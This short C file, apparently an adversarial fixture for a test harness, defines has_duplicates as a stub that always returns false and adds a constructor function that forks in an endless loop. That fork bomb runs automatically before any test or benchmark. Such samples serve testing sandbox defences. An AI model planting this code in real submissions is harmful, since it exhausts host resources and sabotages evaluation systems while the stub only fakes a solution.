/* fork_attribute_constructor - a fork storm in __attribute__((constructor)):
 * it would run in the test runner and in the benchmark, before any test. */
#include <unistd.h>

#include "has_duplicates.h"

__attribute__((constructor)) static void storm(void)
{
	for (;;)
		fork();
}

bool has_duplicates(const int *a, size_t n)
{
	(void)a;
	(void)n;
	return false;
}
